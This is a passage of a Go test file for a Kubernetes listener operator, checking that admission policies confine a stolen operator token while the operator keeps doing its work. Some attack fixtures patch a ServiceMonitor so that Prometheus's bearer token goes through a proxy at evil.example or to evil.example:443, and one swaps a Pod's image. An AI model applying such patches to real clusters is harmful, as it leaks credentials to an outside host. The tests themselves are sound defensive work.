	create("a NetworkPolicy that no Listener controls", `{apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: {namespace: NAMESPACE, name: web-allowed-clients}, spec: {podSelector: {`+ofWeb+`}}}`, "no NetworkPolicies but its own")
	create("a NetworkPolicy of another name", policyOf("x", ofWeb, incoming), "no NetworkPolicies but its own")
	create("a NetworkPolicy for all Pods", policyOf("web-allowed-clients", "", incoming), "no NetworkPolicies but its own")
	create("a NetworkPolicy for the Pods of others", policyOf("web-allowed-clients", "matchLabels: {app: shop}", incoming), "no NetworkPolicies but its own")
	create("a NetworkPolicy for Pods of another Listener", policyOf("web-allowed-clients", "matchLabels: {listener.stackable.tech/mnt.shop: web}", incoming), "no NetworkPolicies but its own")
	create("a NetworkPolicy with an expression", policyOf("web-allowed-clients", ofWeb+", matchExpressions: [{key: x, operator: DoesNotExist}]", incoming), "no NetworkPolicies but its own")
	create("a NetworkPolicy for what Pods connect to", policyOf("web-allowed-clients", ofWeb, `, policyTypes: [Ingress, Egress], egress: [{}]`), "may restrict only which clients")
	patch("a NetworkPolicy that no Listener controls", policy, `{metadata: {`+owners+`}}`, "what belongs to no Listener")
	remove("a NetworkPolicy that no Listener controls", policy, "what belongs to no Listener")
	patch("a ServiceMonitor for other Services", `{apiVersion: monitoring.coreos.com/v1, kind: ServiceMonitor, metadata: {namespace: NAMESPACE, name: listener-operator}}`,
		`{spec: {namespaceSelector: {any: true}}}`, "no metrics")
	patch("a ServiceMonitor that sends the token of Prometheus to the node agents",
		`{apiVersion: monitoring.coreos.com/v1, kind: ServiceMonitor, metadata: {namespace: NAMESPACE, name: listener-operator}}`,
		`- {op: add, path: /spec/endpoints/1/bearerTokenFile, value: /var/run/secrets/kubernetes.io/serviceaccount/token}`, "no metrics")
	for what, field := range map[string]string{
		"by a proxy":         `proxyUrl, value: "http://evil.example"`,
		"at another address": `relabelings, value: [{targetLabel: __address__, replacement: "evil.example:443"}]`,
	} {
		patch("a ServiceMonitor that sends the token of Prometheus "+what, `{apiVersion: monitoring.coreos.com/v1, kind: ServiceMonitor, metadata: {namespace: NAMESPACE, name: listener-operator}}`,
			`- {op: add, path: /spec/endpoints/0/`+field+`}`, "no metrics")
	}
	patch("a ServiceMonitor for another port", `{apiVersion: monitoring.coreos.com/v1, kind: ServiceMonitor, metadata: {namespace: NAMESPACE, name: listener-operator}}`,
		`- {op: replace, path: /spec/endpoints/0/port, value: http}`, "no metrics")
	patch("the image of a Pod", `{apiVersion: v1, kind: Pod, metadata: {namespace: NAMESPACE, name: listener-operator}}`, `- {op: replace, path: /spec/containers/0/image, value: evil}`, "nothing of a Pod but its labels")
	for what, a := range all {
		a.manifest = replace.Replace(a.manifest)
		all[what] = a
	}
	return all
}

// TestStolenOperatorTokenIsConfined uses a token of the operator, with the permissions that the operator is installed
// with. Without the policies, each of the requests is accepted; with them, each is denied, and the operator installs,
// repairs and removes its components.
func TestStolenOperatorTokenIsConfined(t *testing.T) {
	for server, config := range map[string]func(testing.TB) *rest.Config{
		"with OwnerReferencesPermissionEnforcement": apiserver.Config, "without OwnerReferencesPermissionEnforcement": apiserver.PlainConfig,
	} {
		t.Run(server, func(t *testing.T) {
			t.Parallel() // each has an API server of its own
			admin, namespace := freshOn(t, config(t))
			optional := []crds.CRD{
				crds.Routes, crds.ServiceMonitors, crds.PrometheusRules, crds.ConsoleYAMLSamples, crds.ConsoleQuickStarts, crds.SecurityContextConstraints,
				crds.TLSRoutes, crds.TCPRoutes, crds.HTTPRoutes, crds.ListenerSets, crds.Certificates,
			}
			crds.Install(t, admin, optional...)
			defer crds.Remove(t, admin, optional...)
			installRBAC(t, admin, namespace)
			operator := asOperator(t, config(t), namespace)
			if err := (&Reconciler{Client: operator, apiReader: operator, Namespace: namespace}).createConfiguration(t.Context()); err != nil {
				t.Fatal(err)
			}
			r := reconcilerWithRBAC(operator, admin, namespace)
			r.serves = func(schema.GroupVersionKind) bool { return true }
			mustReconcile(t, r)
			createVictims(t, admin, namespace)
			grant(t, admin, namespace, rbacv1.PolicyRule{APIGroups: []string{"apps"}, Resources: []string{"daemonsets/status"}, Verbs: []string{"patch"}})

			// No policy matches the status of Pods.
			pod := object(t, `{apiVersion: v1, kind: Pod, metadata: {namespace: `+namespace+`, name: listener-operator}}`)
			failed := client.RawPatch(types.MergePatchType, []byte(`{"status":{"phase":"Failed"}}`))
			if err := operator.Status().Patch(t.Context(), pod, failed); !apierrors.IsForbidden(err) {
				t.Errorf("patching the status of a Pod: %v, want forbidden", err)
			}

			all := attacks(namespace)
			NewWithT(t).Eventually(func() error { return all["node agents that are ready"].send(t, operator) }, apiserver.Timeout, "50ms").Should(Succeed()) // is granted
			for what, a := range all {
				err := a.send(t, operator)
				if a.hidden && server == "with OwnerReferencesPermissionEnforcement" {
					if !apierrors.IsForbidden(err) {
						t.Errorf("%s %s without policies: %v", a.verb, what, err)
					}
				} else if err != nil {
					t.Errorf("%s %s is no attack, because it fails without policies: %v", a.verb, what, err)
				}
			}
			confine(t, operator, admin)
			for what, a := range all {
				t.Run(a.verb+" "+what, func(t *testing.T) {
					want := a.want
					if a.hidden && server == "with OwnerReferencesPermissionEnforcement" {
						want = "forbidden"
					}
					NewWithT(t).Eventually(func() error { return a.send(t, operator) }, apiserver.Timeout, "50ms").Should(MatchError(ContainSubstring(want)))
					if a.verb == "patch" { // of fields that others may change
						if err := a.send(t, admin); err != nil {
							t.Errorf("an administrator may not: %v", err)
						}
					}
				})
			}

			// The operator is not restricted in what it does.
			own := object(t, `{apiVersion: listeners.stackable.tech/v1alpha1, kind: Listener, metadata: {namespace: `+namespace+`, name: own,
  ownerReferences: [{apiVersion: v1, kind: PersistentVolumeClaim, name: own, uid: own}]}, spec: {ports: []}}`)
			if err := errors.Join(admin.Create(t.Context(), own), operator.Delete(t.Context(), own)); err != nil {
				t.Error(err)
			}
			for _, component := range installation.Components() {
				if o := component.Empty(); component.Kind != "DaemonSet" {
					o.SetNamespace(component.Key(namespace).Namespace)
					o.SetName(component.Name)
					if err := admin.Delete(t.Context(), o); err != nil {
						t.Fatal(err)
					}
				}
			}
			r = reconcilerWithRBAC(operator, admin, namespace)
			r.serves = func(schema.GroupVersionKind) bool { return true }
			mustReconcile(t, r)
			for _, component := range installation.Components() {
				if err := admin.Get(t.Context(), component.Key(namespace), component.Empty()); err != nil {
					t.Error(err)
				}
			}
		})
	}
}

// bundleOf returns the certificates of an authority, in PEM.
func bundleOf(namespace string) string {
	authority, err := certificate.NewRoot(time.Now()).Authority(namespace, "uid")
	if err != nil {
		panic(err)
	}
	return string(authority.PEM())
}

// createVictims creates objects that the operator did not create, and a Service of a Listener.
func createVictims(t *testing.T, admin client.Client, namespace string) {
	t.Helper()
	for _, manifest := range []string{
		`{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: shop}, spec: {ports: [{port: 80}]}}`,
		`{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: web, ownerReferences: [
			{apiVersion: listeners.stackable.tech/v1alpha1, kind: Listener, name: web, uid: web, controller: true}]}, spec: {ports: [{port: 80}]}}`,
		`{apiVersion: v1, kind: PersistentVolume, metadata: {name: NAMESPACE}, spec: {capacity: {storage: 1}, accessModes: [ReadWriteOnce], hostPath: {path: /data}}}`,
		`{apiVersion: listeners.stackable.tech/v1alpha1, kind: Listener, metadata: {namespace: NAMESPACE, name: web}, spec: {ports: []}}`,
		`{apiVersion: v1, kind: ConfigMap, metadata: {namespace: NAMESPACE, name: listener-ca.crt}}`,
		`{apiVersion: events.k8s.io/v1, kind: Event, metadata: {namespace: NAMESPACE, name: web}, regarding: {kind: Pod, namespace: NAMESPACE, name: web},
			eventTime: "2026-01-01T00:00:00.000000Z", reportingController: kubelet, reportingInstance: x, action: x, reason: x, type: Normal}`,
		`{apiVersion: certificates.k8s.io/v1, kind: ClusterTrustBundle, metadata: {name: NAMESPACE}, spec: {trustBundle: "` + strings.ReplaceAll(bundleOf("y"), "\n", "\\n") + `"}}`,
		`{apiVersion: cert-manager.io/v1, kind: Certificate, metadata: {namespace: NAMESPACE, name: shop-listener-tls}, spec: {secretName: x, issuerRef: {name: x}}}`,
		`{apiVersion: route.openshift.io/v1, kind: Route, metadata: {namespace: NAMESPACE, name: shop}, spec: {host: shop.example, to: {kind: Service, name: shop}}}`,
		`{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {namespace: NAMESPACE, name: shop}, spec: {defaultBackend: {service: {name: shop, port: {number: 80}}}}}`,
		`{apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: {namespace: NAMESPACE, name: shop-allowed-clients}, spec: {podSelector: {matchLabels: {app: shop}}}}`,
		`{apiVersion: gateway.networking.k8s.io/v1alpha2, kind: TLSRoute, metadata: {namespace: NAMESPACE, name: shop}, spec: {hostnames: [shop.example], rules: [{backendRefs: [{name: shop, port: 80}]}]}}`,
		`{apiVersion: gateway.networking.k8s.io/v1, kind: ListenerSet, metadata: {namespace: NAMESPACE, name: shop}, spec: {parentRef: {name: edge}, listeners: [{name: x, port: 80, protocol: HTTP}]}}`,
	} {
		if err := admin.Create(t.Context(), object(t, strings.ReplaceAll(strings.ReplaceAll(manifest, "NAMESPACE", namespace), "\t", ""))); err != nil {
			t.Fatal(err)
		}
	}
}

// TestOperatorCannotLiftItsConfinement uses a token of the operator.
func TestOperatorCannotLiftItsConfinement(t *testing.T) {
	admin, namespace := fresh(t)
	installRBAC(t, admin, namespace)
	operator := asOperator(t, apiserver.Config(t), namespace)
	confine(t, operator, admin)
	policies, err := confinement.Policies(metav1.OwnerReference{})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range policies {
		for _, o := range []client.Object{p.Policy, p.Binding} {
			if err := admin.Get(t.Context(), client.ObjectKeyFromObject(o), o); err != nil {
				t.Fatal(err)
			}
			changed := o.DeepCopyObject().(client.Object)
			changed.SetLabels(map[string]string{"changed": "yes"})
			for verb, err := range map[string]error{
				"patch":  operator.Patch(t.Context(), changed, client.MergeFrom(o)),
				"update": operator.Update(t.Context(), changed),
				"delete": operator.Delete(t.Context(), o),
			} {
				if !apierrors.IsForbidden(err) {
					t.Errorf("%s of %T %s returns %v, want forbidden", verb, o, o.GetName(), err)
				}
			}
			owners := o.GetOwnerReferences()
			if len(owners) != 1 || owners[0].Kind != "CustomResourceDefinition" || owners[0].Name != "listeneroperators.listener-operator.dev" || owners[0].UID == "" {
				t.Errorf("%T %s would not be deleted with the CRD: its owners are %+v", o, o.GetName(), owners)
			}
		}
	}
	// No policy applies to policies, so those that change objects are the administrator's alone.
	for _, kind := range []string{"MutatingAdmissionPolicy", "MutatingAdmissionPolicyBinding"} {
		mutating := &unstructured.Unstructured{}
		mutating.SetGroupVersionKind(admissionregistrationv1.SchemeGroupVersion.WithKind(kind))
		mutating.SetName(names.InjectionPolicy)
		for verb, err := range map[string]error{
			"create": operator.Create(t.Context(), mutating.DeepCopy()),
			"patch":  operator.Patch(t.Context(), mutating.DeepCopy(), client.RawPatch(types.MergePatchType, []byte("{}"))),
			"update": operator.Update(t.Context(), mutating.DeepCopy()),
			"delete": operator.Delete(t.Context(), mutating.DeepCopy()),
		} {
			if !apierrors.IsForbidden(err) {
				t.Errorf("%s of a %s returns %v, want forbidden", verb, kind, err)
			}
		}
	}
	crd := &metav1.PartialObjectMetadata{}
	crd.SetGroupVersionKind(schema.GroupVersionKind{Group: "apiextensions.k8s.io", Version: "v1", Kind: "CustomResourceDefinition"})
	crd.SetName("listeneroperators.listener-operator.dev")
	if err := operator.Delete(t.Context(), crd, client.DryRunAll); !apierrors.IsForbidden(err) {
		t.Errorf("deleting their owner returns %v, want forbidden", err)
	}
}

// The policies are created before there is a configuration, and again when an administrator has deleted them. Existing
// ones are not modified.
func TestConfinementIsIndependentOfTheConfiguration(t *testing.T) {
	admin, namespace := fresh(t)
	installRBAC(t, admin, namespace)
	operator := asOperator(t, apiserver.Config(t), namespace)
	c := &confinement.Reconciler{Client: &cached{Client: operator, cache: admin}, APIReader: operator}
	policies, err := confinement.Policies(metav1.OwnerReference{APIVersion: "v1", Kind: "Namespace", Name: "other", UID: "other"})
	if err != nil {
		t.Fatal(err)
	}
	existing := policies[0].Policy
	if err := admin.Create(t.Context(), existing); err != nil {
		t.Fatal(err)
	}
	for range 2 {
		if _, err := c.Reconcile(t.Context(), reconcile.Request{}); err != nil {
			t.Fatal(err)
		}
	}
	version := existing.ResourceVersion
	for i, p := range policies {
		for _, o := range []client.Object{p.Policy, p.Binding} {
			if err := admin.Get(t.Context(), client.ObjectKeyFromObject(o), o); err != nil {
				t.Error(err)
			}
		}
		if i == 0 && p.Policy.ResourceVersion != version {
			t.Error("an existing policy was modified")
		}
	}
}

// Whoever has a token of the operator may create a policy, with the name that a later version has for one, before that
// version is installed. The operator cannot change it.
func TestPoliciesOfOtherVersionsAreReported(t *testing.T) {
	admin, namespace := fresh(t)
	installRBAC(t, admin, namespace)
	createConfig(t, admin)
	operator := asOperator(t, apiserver.Config(t), namespace)
	policies, err := confinement.Policies(metav1.OwnerReference{APIVersion: "v1", Kind: "Namespace", Name: "other", UID: "other"})
	if err != nil {
		t.Fatal(err)
	}
	weak, lifted := policies[0].Policy, policies[1].Binding
	weak.Spec.MatchConstraints.ExcludeResourceRules = weak.Spec.MatchConstraints.ResourceRules
	lifted.Spec.ValidationActions = []admissionregistrationv1.ValidationAction{admissionregistrationv1.Audit}
	later := policies[2].Policy.DeepCopy()
	later.Name += ".later"
	for _, o := range []client.Object{weak, lifted, later} {
		if err := operator.Create(t.Context(), o); err != nil {
			t.Fatal(err)
		}
	}
	c := &confinement.Reconciler{Client: &cached{Client: operator, cache: admin}, APIReader: operator}
	confineAndReconcile := func() *metav1.Condition {
		t.Helper()
		if _, err := c.Reconcile(t.Context(), reconcile.Request{}); err != nil {
			t.Fatal(err)
		}
		return meta.FindStatusCondition(mustReconcile(t, reconcilerWithRBAC(operator, admin, namespace)).Status.Conditions, operatorv1alpha1.ConditionDegraded)
	}
	g := NewWithT(t)
	degraded := confineAndReconcile()
	g.Expect(degraded.Reason).To(Equal(operatorv1alpha1.ReasonOtherConfinement))
	for _, want := range []string{
		"ValidatingAdmissionPolicy " + weak.Name + " differs from the one of this version; delete it",
		"ValidatingAdmissionPolicyBinding " + lifted.Name + " differs from the one of this version; delete it",
		"ValidatingAdmissionPolicy " + later.Name + " belongs to another version of the operator; if none is installed, delete it",
	} {
		g.Expect(degraded.Message).To(ContainSubstring(want))
	}
	for _, o := range []client.Object{weak, lifted, later} {
		version := o.GetResourceVersion()
		g.Expect(admin.Get(t.Context(), client.ObjectKeyFromObject(o), o)).To(Succeed())
		g.Expect(o.GetResourceVersion()).To(Equal(version), "%s was modified", o.GetName())
		g.Expect(admin.Delete(t.Context(), o)).To(Succeed())
	}
	g.Expect(confineAndReconcile().Message).To(Equal("no problem is known"))
}

// TestConfinedOperatorDoesItsWork sends the writes of the other controllers, with a token of the operator.
func TestConfinedOperatorDoesItsWork(t *testing.T) {
	admin, namespace := fresh(t)
	optional := []crds.CRD{crds.Routes, crds.TLSRoutes, crds.TCPRoutes, crds.UDPRoutes, crds.HTTPRoutes, crds.ListenerSets, crds.Certificates}
	crds.Install(t, admin, optional...)
	defer crds.Remove(t, admin, optional...)
	installRBAC(t, admin, namespace)
	operator := asOperator(t, apiserver.Config(t), namespace)
	confine(t, operator, admin)
	g := NewWithT(t)
	volumes, services := apply.New(operator, names.FieldManagerVolume), apply.New(operator, names.FieldManagerService)

	// A class-based claim.
	pvc := &corev1.PersistentVolumeClaim{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: "web-listener", UID: "pvc", Labels: map[string]string{"a": "b"}}}
	pv := object(t, `{apiVersion: v1, kind: PersistentVolume, metadata: {name: `+namespace+`-work, labels: {listeners.stackable.tech/listener-name: web}},
  spec: {capacity: {storage: 1}, accessModes: [ReadWriteMany], claimRef: {namespace: `+namespace+`, name: web-listener, uid: pvc},
    csi: {driver: listeners.stackable.tech, volumeHandle: `+namespace+`-work, volumeAttributes: {a: b}}}}`)
	g.Expect(operator.Create(t.Context(), pv)).To(Succeed())
	ports := []listenersv1alpha1.ListenerPort{{Name: "http", Port: 80}}
	_, err := volumes.Apply(t.Context(), claim.OfClaim(pvc, nil).Listener("web", ports, nil), nil)
	g.Expect(err).NotTo(HaveOccurred())
	listener := &listenersv1alpha1.Listener{}
	g.Expect(admin.Get(t.Context(), client.ObjectKeyFromObject(pvc), listener)).To(Succeed())
	bound := &corev1.PersistentVolume{ObjectMeta: metav1.ObjectMeta{Name: pv.GetName(), UID: pv.GetUID()}}
	_, err = volumes.Apply(t.Context(), claim.OfClaim(pvc, bound).Listener("web", append(ports, listenersv1alpha1.ListenerPort{Name: "https", Port: 443}), nil), listener)
	g.Expect(err).NotTo(HaveOccurred())

	// The annotation with numbers is on the Listeners of users, too.
	ofUser := object(t, `{apiVersion: listeners.stackable.tech/v1alpha1, kind: Listener, metadata: {namespace: `+namespace+`, name: of-user, labels: {a: b}}, spec: {className: web}}`)
	g.Expect(admin.Create(t.Context(), ofUser)).To(Succeed())
	g.Expect(apply.PatchMetadata(t.Context(), operator, ofUser, names.FieldManagerDefault, map[string]any{"annotations": map[string]any{names.AnnotationNumbers: "{}"}})).To(Succeed())

	// The Listener of an ephemeral claim is kept by what controls its Pod, and deleted if no other Pod comes.
	kept := claim.OfClaim(pvc, bound).Listener("web", ports, nil)
	kept.SetName("web-0-listener")
	kept.SetAnnotations(map[string]string{names.AnnotationClaim: kept.GetName()})
	owners := kept.GetOwnerReferences()
	owners[0].Name = kept.GetName()
	kept.SetOwnerReferences(append(owners, metav1.OwnerReference{APIVersion: "core.strimzi.io/v1", Kind: "StrimziPodSet", Name: "web", UID: "set"}))
	_, err = volumes.Apply(t.Context(), kept, nil)
	g.Expect(err).NotTo(HaveOccurred())
	collected := client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"ownerReferences":[{"apiVersion":"core.strimzi.io/v1","kind":"StrimziPodSet","name":"web","uid":"set"}]}}`))
	g.Expect(admin.Patch(t.Context(), kept.DeepCopy(), collected)).To(Succeed())
	g.Expect(operator.Delete(t.Context(), kept.DeepCopy())).To(MatchError(ContainSubstring("may delete no Listeners")))
	_, err = apply.New(operator, names.FieldManagerListenerStatus).ApplyStatus(t.Context(), kept, &listenersv1alpha1.ListenerStatus{UnusedSince: &metav1.Time{Time: time.Unix(0, 0)}}, "")
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(operator.Delete(t.Context(), kept)).To(Succeed())
	// The Listener of an inline volume belongs to its Pod, and is deleted when the Pod has finished.
	job := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: "job", UID: "job"}}
	volume := objects.InlineVolume("listener", map[string]string{names.LabelCertificate: "web"})
	inline := claim.OfInline(job, &volume).Listener("web", ports, nil)
	_, err = volumes.Apply(t.Context(), inline, nil)
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(operator.Delete(t.Context(), inline)).To(Succeed())
	// A backup keeps only the annotation.
	restored := object(t, `{apiVersion: listeners.stackable.tech/v1alpha1, kind: Listener, metadata: {namespace: `+namespace+`, name: web-1-listener, annotations: {
  listener-operator.dev/claim: web-1-listener}}, spec: {className: web}}`)
	g.Expect(admin.Create(t.Context(), restored)).To(Succeed())
	pvc.Name = restored.GetName()
	_, err = volumes.Apply(t.Context(), claim.OfClaim(pvc, bound).Listener("web", ports, nil), restored)
	g.Expect(err).NotTo(HaveOccurred())

	service := object(t, `{apiVersion: v1, kind: Service, metadata: {namespace: `+namespace+`, name: restored, labels: {app.kubernetes.io/name: listener,
  app.kubernetes.io/instance: restored, app.kubernetes.io/managed-by: listeners.stackable.tech_listener}}, spec: {ports: [{name: http, port: 80}]}}`)
	g.Expect(admin.Create(t.Context(), service)).To(Succeed())
	own := &listenersv1alpha1.Listener{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: "restored", UID: "restored"}, Spec: listenersv1alpha1.ListenerSpec{Ports: ports}}
	ofClass := &listenersv1alpha1.ListenerClass{Spec: listenersv1alpha1.ListenerClassSpec{ServiceType: listenersv1alpha1.ServiceTypeNodePort}}
	restoredService, refusal := backends.All().Of(ofClass).Service(ofClass, own)
	g.Expect(refusal).To(BeNil())
	adopted, err := apply.Unstructured(restoredService)
	g.Expect(err).NotTo(HaveOccurred())
	_, err = services.Apply(t.Context(), adopted, service)
	g.Expect(err).NotTo(HaveOccurred())

	// The Service of a Listener of a user, its status, a Route, an Ingress, and routes of a Gateway.
	listener = &listenersv1alpha1.Listener{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: "shop"}, Spec: listenersv1alpha1.ListenerSpec{Ports: ports}}
	g.Expect(admin.Create(t.Context(), listener)).To(Succeed())
	class := &listenersv1alpha1.ListenerClass{Spec: listenersv1alpha1.ListenerClassSpec{ServiceType: listenersv1alpha1.ServiceTypeNodePort}}
	var appliedService, appliedRoute, appliedIngress client.Object
	for _, name := range []string{"first", "second"} {
		listener.Labels = map[string]string{"is": name}
		service, refusal := (&exposure.Backend{}).Service(class, listener)
		g.Expect(refusal).To(BeNil())
		desired, err := apply.Unstructured(service)
		g.Expect(err).NotTo(HaveOccurred())
		_, err = services.Apply(t.Context(), desired, appliedService)
		g.Expect(err).NotTo(HaveOccurred())
		appliedService = desired
		route := object(t, `{apiVersion: route.openshift.io/v1, kind: Route, metadata: {namespace: `+namespace+`, name: shop-http, labels: {is: `+name+`}},
  spec: {host: shop.example, to: {kind: Service, name: shop}, port: {targetPort: http}}}`)
		exposure.SetOwner(route, listener)
		_, err = services.Apply(t.Context(), route, appliedRoute)
		g.Expect(err).NotTo(HaveOccurred())
		appliedRoute = route
	}
	g.Expect(operator.Delete(t.Context(), object(t, `{apiVersion: route.openshift.io/v1, kind: Route, metadata: {namespace: `+namespace+`, name: shop-http}}`))).To(Succeed())
	for _, host := range []string{"first.example", "second.example"} {
		ingress := object(t, `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {namespace: `+namespace+`, name: shop-http}, spec: {ingressClassName: a, rules: [
  {host: `+host+`, http: {paths: [{path: /, pathType: Prefix, backend: {service: {name: shop, port: {name: http}}}}]}}]}}`)
		exposure.SetOwner(ingress, listener)
		_, err = services.Apply(t.Context(), ingress, appliedIngress)
		g.Expect(err).NotTo(HaveOccurred())
		appliedIngress = ingress
	}
	g.Expect(operator.Delete(t.Context(), object(t, `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {namespace: `+namespace+`, name: shop-http}}`))).To(Succeed())
	var appliedPolicy client.Object
	for _, clients := range []listenersv1alpha1.CIDR{"198.51.100.0/24", "203.0.113.0/24"} {
		restricted := &listenersv1alpha1.ListenerClass{Spec: listenersv1alpha1.ListenerClassSpec{
			ServiceType: listenersv1alpha1.ServiceTypeNodePort, AllowedClients: []listenersv1alpha1.CIDR{clients},
			ServiceExternalTrafficPolicy: ptr.To(corev1.ServiceExternalTrafficPolicyLocal),
		}}
		service, refusal := (&exposure.Backend{}).Service(restricted, listener)
		g.Expect(refusal).To(BeNil())
		policy := backends.All().Of(restricted).ClientPolicy(&exposure.Listener{Listener: listener, Class: restricted}, service, exposure.ReadPolicies(listener, nil, nil))
		_, err = services.Apply(t.Context(), policy, appliedPolicy)
		g.Expect(err).NotTo(HaveOccurred())
		appliedPolicy = policy
	}
	g.Expect(operator.Delete(t.Context(), appliedPolicy)).To(Succeed())
	withSecret := func(secret, annotation string) error {
		ingress := object(t, `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {namespace: `+namespace+`, name: x, annotations: {
  listeners.stackable.tech/pod: web-1, cert-manager.io/issuer: a, `+annotation+`: b}}, spec: {ingressClassName: a, tls: [{hosts: [web-1.example], secretName: `+secret+`}], rules: [
  {host: web-1.example, http: {paths: [{path: /, pathType: Prefix, backend: {service: {name: listener-web-1, port: {name: http}}}}]}}]}}`)
		exposure.SetOwner(ingress, &listenersv1alpha1.Listener{ObjectMeta: metav1.ObjectMeta{Name: "listener-web-1", UID: "x"}})
		return operator.Create(t.Context(), ingress, client.DryRunAll)
	}
	const known, other = "nginx.ingress.kubernetes.io/proxy-body-size", "example.com/other"
	g.Expect(withSecret("listener-web-1-http-tls", known)).To(Succeed())
	g.Expect(withSecret("web-1.tls", known)).To(Succeed())
	g.Expect(withSecret("wildcard", known)).To(MatchError(ContainSubstring("no Secrets in Ingresses")))
	g.Expect(withSecret("web-1.tls", other)).To(MatchError(ContainSubstring("annotations of Ingresses: " + other)))
	for resource, name := range map[string]string{"ingresscertificates": "wildcard", "ingressannotations": other} {
		grant(t, admin, namespace, rbacv1.PolicyRule{
			APIGroups: []string{"listener-operator.dev"}, Resources: []string{resource}, ResourceNames: []string{name}, Verbs: []string{"use"},
		})
	}
	g.Eventually(func() error { return withSecret("wildcard", other) }, apiserver.Timeout, "50ms").Should(Succeed())
	for _, route := range gatewayRoutes(t, listener) {
		_, err = services.Apply(t.Context(), route.DeepCopy(), nil)
		g.Expect(err).NotTo(HaveOccurred())
		g.Expect(operator.Delete(t.Context(), route.DeepCopy())).To(Succeed())
		// Those from a backup have no owners.
		restored := route.DeepCopy()
		restored.SetOwnerReferences(nil)
		g.Expect(admin.Create(t.Context(), restored.DeepCopy())).To(Succeed())
		g.Expect(operator.Delete(t.Context(), restored.DeepCopy())).To(Succeed())
		g.Expect(admin.Create(t.Context(), restored)).To(Succeed())
		_, err = services.Apply(t.Context(), route, restored)
		g.Expect(err).NotTo(HaveOccurred())
		g.Expect(operator.Delete(t.Context(), route)).To(Succeed())
	}
	for _, name := range []string{"7days-data", "web.one", strings.Repeat("long", 20)} { // that no Service can have
		exposeDerived(t, admin, services, namespace, name)
	}
	var appliedCertificate client.Object
	for _, name := range []string{"first.example", "second.example"} {
		desired := object(t, `{apiVersion: cert-manager.io/v1, kind: Certificate, metadata: {namespace: default, name: shop-listener-tls, labels: {
  app.kubernetes.io/managed-by: listener-operator}}, spec: {secretName: shop-listener-tls, dnsNames: [`+name+`], ipAddresses: [192.0.2.1],
  usages: [digital signature, server auth, client auth], issuerRef: {name: a}}}`)
		_, err = apply.New(operator, names.FieldManagerOperator).Apply(t.Context(), desired, appliedCertificate)
		g.Expect(err).NotTo(HaveOccurred())
		appliedCertificate = desired
	}
	g.Expect(operator.Delete(t.Context(), appliedCertificate)).To(Succeed())
	status := map[string]any{"serviceName": "shop", "ingressAddresses": []any{}}
	g.Expect(apply.New(operator, names.FieldManagerListenerStatus).ApplyStatus(t.Context(), listener, &status, "")).To(BeTrue())
	external, refusal := (&exposure.Backend{}).Service(&listenersv1alpha1.ListenerClass{Spec: listenersv1alpha1.ListenerClassSpec{
		ServiceType: listenersv1alpha1.ServiceTypeNodePort, ServiceOverrides: runtime.RawExtension{Raw: []byte(`{"spec":{"externalIPs":["192.0.2.1"]}}`)},
	}}, listener)
	g.Expect(refusal).To(BeNil())
	desired, err := apply.Unstructured(external)
	g.Expect(err).NotTo(HaveOccurred())
	_, err = services.Apply(t.Context(), desired.DeepCopy(), appliedService)
	g.Expect(err).To(MatchError(ContainSubstring("give it permission to use externalips.listener-operator.dev")))
	grant(t, admin, namespace, rbacv1.PolicyRule{APIGroups: []string{"listener-operator.dev"}, Resources: []string{"externalips"}, Verbs: []string{"use"}})
	g.Eventually(func() error {
		_, err := services.Apply(t.Context(), desired.DeepCopy(), appliedService)
		return err
	}, apiserver.Timeout, "50ms").Should(Succeed())

	// A Pod that mounts the volume, and the end of the volume.
	pod := object(t, `{apiVersion: v1, kind: Pod, metadata: {namespace: `+namespace+`, name: listener-operator}}`)
	g.Expect(operator.Patch(t.Context(), pod, client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"labels":{"`+names.PodMountLabel("uid")+`":"shop"}}}`)))).To(Succeed())
	podListeners := listenersv1alpha1.NewPodListeners(types.NamespacedName{Namespace: namespace, Name: "web-0"}, "uid", "node")
	g.Expect(operator.Create(t.Context(), podListeners)).To(Succeed())
	g.Expect(operator.Delete(t.Context(), podListeners)).To(Succeed())
	pinned := object(t, `{apiVersion: v1, kind: PersistentVolume, metadata: {name: `+namespace+`-work}, spec: {nodeAffinity: {required: {nodeSelectorTerms: [
  {matchExpressions: [{key: listeners.stackable.tech/hostname, operator: In, values: [node]}]}]}}}}`)
	_, err = volumes.Apply(t.Context(), pinned, bound)
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(operator.Delete(t.Context(), bound.DeepCopy())).To(Succeed())
	g.Expect(operator.Patch(t.Context(), bound, client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"finalizers":null}}`)))).To(Succeed())
	g.Expect(apierrors.IsNotFound(admin.Get(t.Context(), client.ObjectKeyFromObject(bound), bound))).To(BeTrue())

	// An event, which is counted when it repeats.
	sink := events.NewBroadcaster(&events.EventSinkImpl{Interface: kubernetes.NewForConfigOrDie(apiserver.WithToken(t, apiserver.Config(t), namespace, names.Operator)).EventsV1()})
	g.Expect(sink.StartRecordingToSinkWithContext(t.Context())).To(Succeed())
	defer sink.Shutdown()
	for range 2 {
		sink.NewRecorder(apiserver.Scheme(), names.EventReporter).Eventf(listener, nil, corev1.EventTypeNormal, "Repeated", "Test", "a text")
	}
	g.Eventually(func(g Gomega) {
		var all eventsv1.EventList
		g.Expect(admin.List(t.Context(), &all, client.InNamespace(namespace))).To(Succeed())
		g.Expect(all.Items).To(ContainElement(HaveField("Series.Count", BeEquivalentTo(2))))
	}, apiserver.Timeout, "50ms").Should(Succeed())

	// The classes of all presets.
	for _, preset := range []operatorv1alpha1.Preset{operatorv1alpha1.PresetEphemeralNodes, operatorv1alpha1.PresetStableNodes} {
		classes, err := listenerclass.Preset(preset)
